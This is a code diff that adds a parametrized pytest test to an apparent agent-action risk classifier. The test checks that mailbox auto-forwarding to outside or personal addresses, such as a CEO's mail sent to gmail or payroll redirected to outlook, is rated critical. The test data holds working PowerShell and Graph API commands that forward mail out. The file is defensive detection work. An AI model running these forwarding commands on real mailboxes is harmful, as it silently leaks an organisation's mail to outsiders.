@@ -653,3 +653,60 @@ def test_orders_in_cjk_questions_to_agents_playbooks_and_patches(
     action: str, data: dict[str, Any], level: str
 ) -> None:
     assert classify("agent", action, data).risk_level == level
+
+
+# Written before the rule: a mailbox told to forward its mail elsewhere (MITRE T1114.003) sends
+# every mail that arrives from then on; a message, a filter or a read of the setting does not.
+@pytest.mark.parametrize(
+    ("action", "data", "policy", "level"),
+    [
+        (
+            "powershell",
+            {"command": "Set-Mailbox -Identity ceo -ForwardingSmtpAddress ceo.backup@gmail.com"},
+            None,
+            "critical",
+        ),
+        (
+            "exchange",
+            {"script": "New-InboxRule -Mailbox payroll -Name sync -RedirectTo 'p.r@outlook.com'"},
+            None,
+            "critical",
+        ),
+        (
+            "graph_api",
+            {
+                "method": "PATCH",
+                "path": "/users/anna@acme.example/mailboxSettings",
+                "body": {"forwardingSmtpAddress": "anna.home@yahoo.com"},
+            },
+            None,
+            "critical",
+        ),
+        (  # an outside business domain, when the policy says which domains are the company's
+            "mailbox_settings",
+            {"user": "ops@acme.example", "auto_forward_to": "inbox@partner-archive.example.net"},
+            {"internal_domains": ["acme.example"]},
+            "critical",
+        ),
+        (  # forwarding to a colleague stays inside (a write with addresses: medium, the rubric's
+            # level for personal data outside production; first written as high by mistake)
+            "mailbox_settings",
+            {"user": "ops@acme.example", "auto_forward_to": "oncall@acme.example"},
+            {"internal_domains": ["acme.example"]},
+            "medium",
+        ),
+        (
+            "powershell",
+            {"command": "Get-Mailbox -Identity ceo | fl ForwardingSmtpAddress"},
+            None,
+            "low",
+        ),
+    ],
+)
+def test_mail_forwarded_to_a_personal_or_outside_mailbox(
+    action: str, data: dict[str, Any], policy: dict[str, Any] | None, level: str
+) -> None:
+    from agentaudit.models import Policy
+
+    kw = {"policy": Policy(**policy)} if policy else {}
+    assert classify("agent", action, data, **kw).risk_level == level
